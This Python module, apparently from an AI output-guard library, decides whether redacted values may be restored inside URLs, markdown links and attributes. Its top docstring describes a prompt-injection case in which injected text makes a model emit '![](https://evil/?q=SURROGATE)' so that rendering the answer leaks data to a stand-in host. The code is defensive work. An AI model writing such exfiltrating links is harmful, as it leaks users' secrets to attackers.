"""Where a restored value would land, and whether it may (DESIGN §2, restore by sink).

Restoring must not become the way out: an injected text can make a model write
``![](https://evil/?q=SURROGATE)``, and whoever renders that answer calls the address. So
inside addresses, link destinations and attributes a value is restored only if every host
there stood in the caller's own words, and never in the part that names the host.
"""

from __future__ import annotations

import re

from guard.protection.addresses import Judged, hosts_in, judge
from guard.protection.markup import Markup

__all__ = ["Place", "hosts_in"]

SPACES = " \t\n\r\f\v"
"""What ends an address for every reader; the spaces of other scripts do not."""

SPACE = re.compile(f"[{SPACES}]")
MARKS = ("//", "\\\\", "/\\", "\\/", "&", "%")
CONTINUES = re.compile(r"\.[^\W_]|:[\\/]|@")
"""What makes the value before it part of a host's name, a scheme or a mailbox."""

LINK = re.compile(r"(?i)\]\(|url\(")
MAILBOX = re.compile(r"(?i)(?:mailto|tel):")
LIMIT = 1024
MARGIN = 640
"""Of a run without spaces so much stays in sight; no host's name is longer."""

START = "^"
CLOSERS = {'"': '"', "'": "'", "<": ">\n", "(": ")", START: ""}
PARENTHESES = re.compile(r"\\.|[()]")


class _Region:
    """What stood before a stranger's address: until it closes, a space ends the address only for some."""

    __slots__ = ("_depth", "_opener")

    def __init__(self, opener: str) -> None:
        self._opener = opener
        self._depth = 1

    def closes(self, text: str) -> bool:
        """Go on over ``text``; whether it closes the region."""
        if self._opener != "(":
            return any(mark in text for mark in CLOSERS[self._opener])
        for mark in PARENTHESES.findall(text):
            self._depth += {"(": 1, ")": -1}.get(mark, 0)
            if self._depth == 0:
                return True
        return False


class Place:
    """Follows a text and says whether a value may be restored where it has come to.

    ``argument``: the text is a string in a tool's arguments. There an address at its very
    beginning is the whole of it, spaces and all, while elsewhere a closed quotation ends an
    address; in prose, renderers read on behind it.
    """

    def __init__(self, hosts: frozenset[str], *, argument: bool = False) -> None:
        self._hosts = hosts
        self._argument = argument
        self._markup = Markup()
        self._regions: dict[str, _Region] = {}
        self._run = ""
        self._fresh = True
        """Nothing but spaces stood before this run."""
        self._trimmed = self._found = self._foreign = False
        """Whether the run is longer than is kept, and what stood there."""
        self.last = ""
        """The character before, which decides whether a token begins here."""

    def advance(self, text: str) -> None:
        """Go on over ``text``."""
        if not text:
            return
        self.last = text[-1]
        self._markup.feed(text)
        if not self._regions and not self._may_open(self._run + text):
            self._skip(text)
            return
        at = 0
        for space in SPACE.finditer(text):
            self._extend(text[at : space.start()])
            if self._may_open(self._run):
                self._note_regions()
            self._forget()
            self._close_regions(space.group())
            at = space.end()
        self._extend(text[at:])

    def permits(self, right: str, *, in_addresses: bool = True) -> bool:
        """Whether a value may be restored here; ``right``: two characters that follow it.

        ``in_addresses``: also inside addresses whose host the caller named.
        """
        if CONTINUES.match(right) or self._regions or self._foreign:
            return False
        value = self._markup.value
        if value is not None:
            needed = self._markup.loads and not (in_addresses and MAILBOX.fullmatch(value))
            if self._markup.overflow or not self._free(judge(value, self._hosts), needed, in_addresses):
                return False
        links = [found.end() for found in LINK.finditer(self._run)]
        needed = bool(links) and not (in_addresses and MAILBOX.fullmatch(self._run, links[-1]))
        return self._free(self._judged(), needed, in_addresses)

    def _free(self, judged: Judged, needed: bool, in_addresses: bool) -> bool:
        found = judged.found or self._found
        if judged.foreign or (found and not in_addresses):
            return False
        return not needed or (found and in_addresses)

    def _judged(self) -> Judged:
        return judge(self._run, self._hosts, quoted=self._argument)

    def _may_open(self, text: str) -> bool:
        """Whether ``text`` may hold an address that goes on behind a space for some reader."""
        return (self._argument and self._fresh) or any(mark in text for mark in MARKS)

    def _skip(self, text: str) -> None:
        """Go on over a text in which no address can be."""
        space = max(map(text.rfind, SPACES))
        if space >= 0:
            self._forget()
        self._extend(text[space + 1 :])

    def _forget(self) -> None:
        self._fresh = self._fresh and not self._run
        self._run, self._trimmed, self._found, self._foreign = "", False, False, False

    def _extend(self, text: str) -> None:
        """Make the run longer; what gets out of reach is judged first."""
        at = 0
        while at < len(text):
            taken = text[at : at + LIMIT - len(self._run)]
            at += len(taken)
            self._run += taken
            self._close_regions(taken)
            if len(self._run) == LIMIT:
                judged = self._note_regions()
                self._found = self._found or judged.found
                self._foreign = self._foreign or judged.foreign
                self._run = self._run[-MARGIN:]
                self._trimmed = True

    def _note_regions(self) -> Judged:
        """Judge the run; remember what strangers' addresses in it opened and did not close."""
        judged = self._judged()
        for stranger in judged.strangers:
            whole = self._argument and self._fresh and stranger.first and not self._trimmed
            opener = START if whole else stranger.opener
            if opener in CLOSERS and opener not in self._regions:
                region = _Region(opener)
                if not region.closes(stranger.rest):
                    self._regions[opener] = region
        return judged

    def _close_regions(self, text: str) -> None:
        for opener, region in tuple(self._regions.items()):
            if region.closes(text):
                del self._regions[opener]
